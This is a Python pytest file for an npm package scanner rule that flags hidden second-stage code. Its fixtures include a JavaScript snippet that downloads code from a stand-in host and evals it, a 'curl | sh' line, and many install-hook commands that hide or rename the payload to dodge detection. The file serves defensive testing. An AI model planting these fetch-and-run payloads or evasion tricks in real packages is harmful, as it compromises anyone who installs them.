"""Code that runs unasked from where nobody looks for code: found when it runs, and where nothing runs it, silent."""

from __future__ import annotations

from base64 import b64encode

import pytest

from assay.rules import fetch_001_second_stage
from tests.npm_behaviour import npm_package, npm_worst

FETCHED = """
    require('https').get('https://x.example.invalid/p', r => {
      let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d))
    })
"""
SHELL = "curl -s https://x.example.invalid/p | sh\n"
IN_NAME = f"data:text/javascript;base64,{b64encode(FETCHED.encode()).decode()}"
RULE = fetch_001_second_stage.RULE


def at_install(line: str) -> dict[str, object]:
    return {"scripts": {"postinstall": line}}


@pytest.mark.parametrize(
    ("files", "fields"),
    [
        ({"index.js": "require('./a.txt')", "a.txt": FETCHED}, {}),
        ({"index.js": "require('./logo.png')", "logo.png": FETCHED}, {}),
        ({"index.js": "require('./NOTES')", "NOTES": FETCHED}, {}),
        ({"index.js": "require('./a.txt')", "a.txt": "require('./b.css')", "b.css": FETCHED}, {}),
        ({"a.txt": FETCHED}, {"main": "a.txt"}),
        ({"run": FETCHED}, {"bin": "run"}),
        ({"run.txt": FETCHED}, {"exports": {"./x": {"node": "./run.txt"}}}),
        ({"index.js": "eval(require('fs').readFileSync(__dirname + '/a.txt', 'utf8'))", "a.txt": FETCHED}, {}),
        ({"test/s.js": FETCHED}, {"exports": {"./*": "./test/*"}}),
        ({"index.mjs": f"import '{IN_NAME}'"}, {"main": "index.mjs"}),
        ({"index.mjs": f"export * from '{IN_NAME}'"}, {"main": "index.mjs"}),
        ({"index.mjs": f"import x from '{IN_NAME}'; x()"}, {"main": "index.mjs"}),
    ],
)
def test_what_is_loaded_is_code_whatever_its_name(files: dict[str, str], fields: dict[str, object]) -> None:
    assert npm_worst(RULE, npm_package(files, fields)) in ("high", "critical")


@pytest.mark.parametrize(
    ("name", "content", "line"),
    [
        ("s.txt", FETCHED, "node s.txt"),
        ("s.txt", FETCHED, "node < s.txt"),
        ("s.txt", f"what people read\n{FETCHED}", "tail -n +2 s.txt | node"),
        ("s.txt", FETCHED, "cp s.txt s.js && node s.js"),
        ("s.txt", FETCHED, "mv ./s.txt lib.js; node lib"),
        ("s.txt", FETCHED, "cat s.txt > /tmp/s.js; node /tmp/s.js"),
        ("s.txt", FETCHED, "cp s.txt /tmp && node /tmp/s.txt"),
        ("s.txt", SHELL, "sh s.txt"),
        ("s", SHELL, "chmod +x s; ./s"),
        ("s", SHELL, "cp s z; sh ./z"),
        ("s.js", FETCHED, f"{'env ' * 100}node s.js"),
    ],
)
def test_what_scripts_run_is_read_whatever_its_name(name: str, content: str, line: str) -> None:
    assert npm_worst(RULE, npm_package({name: content}, at_install(line))) == "critical"


@pytest.mark.parametrize(
    ("files", "fields"),
    [
        ({"index.js": "require('./style.css')", "style.css": "a { color: red }", "README.md": FETCHED}, {}),
        ({"index.js": "1", "a.txt": FETCHED}, {}),
        ({"index.js": "1", "s.txt": SHELL}, at_install("cp s.txt t.txt && node index.js")),
        ({"index.js": "console.log(require('fs').readFileSync(__dirname + '/a.txt', 'utf8'))", "a.txt": FETCHED}, {}),
        ({"index.js": "1", "test/s.js": "1"}, {"exports": {"./*": "./*"}}),
    ],
)
def test_texts_that_nothing_runs_are_no_code(files: dict[str, str], fields: dict[str, object]) -> None:
    assert npm_worst(RULE, npm_package(files, fields)) == "none"


@pytest.mark.parametrize(
    ("index", "fields"),
    [
        ("const r = require; r('./test/s.js')", {}),
        ("require?.('./test/s.js')", {}),
        ("require(/* why */ './test/s.js')", {}),
        (r"require('./\x74est/s.js')", {}),
        ("require.bind(null)('./test/s.js')", {}),
        ("require(process.cwd() + '/node_modules/demo/test/s.js')", {}),
        ("const p = require('path'); require(p.resolve(require.resolve('demo/package.json'), '../test/s.js'))", {}),
        ("require('fs').readdirSync(__dirname + '/test').forEach(f => require('./test/' + f))", {}),
        ("import {createRequire} from 'module'; createRequire(import.meta.url)('./test/s.js')", {}),
        ("import(new URL('./test/s.js', import.meta.url))", {}),
        ("import './test/s.js#x'", {}),
        ("import './%74est/s.js'", {}),
        ("import '#z/s.js'", {"imports": {"#z/*": "./test/*"}}),
        ("import '#z'", {"imports": {"#z": "demo/test/s.js"}}),
        ("import '#z'; import 'demo/y'", {"imports": {"#z": "#z"}, "exports": {"./y": "demo/y", "./z": "./test/s.js"}}),
        ("1", {"directories": {"bin": "test"}}),
    ],
)
def test_what_runs_is_no_test_whatever_its_name(index: str, fields: dict[str, object]) -> None:
    assert npm_worst(RULE, npm_package({"index.js": index, "test/s.js": FETCHED}, fields)) == "high"


@pytest.mark.parametrize(
    "index", ["1", "require('./lib/' + process.argv[2])", "require(name)", "require(`${base}/lib/x.js`)"]
)
def test_tests_that_nothing_loads_are_judged_as_tests(index: str) -> None:
    assert npm_worst(RULE, npm_package({"index.js": index, "lib/x.js": "1", "test/s.js": FETCHED})) == "low"


@pytest.mark.parametrize(
    "line",
    [
        "node test/*.js",
        "node --max-old-space-size 100 test/s.js",
        "node --run test",
        "node -r./test/s index.js",
        "npm --prefix test install",
        "cd test && npm i",
        "npm i ./test",
        "tr -d x < test/s.js | node",
        "for f in test/*.js; do node $f; done",
        "echo test/s.js | xargs node",
        "find test -name s.js -exec node {} \\;",
    ],
)
def test_what_a_script_starts_is_no_test(line: str) -> None:
    files = {"index.js": "1", "test/s.js": FETCHED, "test/package.json": '{"scripts": {"postinstall": "node s.js"}}'}
    fields = {"scripts": {"postinstall": line, "test": "node test/s.js"}}
    assert npm_worst(RULE, npm_package(files, fields)) == "critical"


@pytest.mark.parametrize("line", ["node index.js test/s.js", "npm install", "npm i ./other", "node other/*.js"])
def test_what_a_script_does_not_start_stays_a_test(line: str) -> None:
    assert npm_worst(RULE, npm_package({"index.js": "1", "test/s.js": FETCHED}, at_install(line))) == "low"
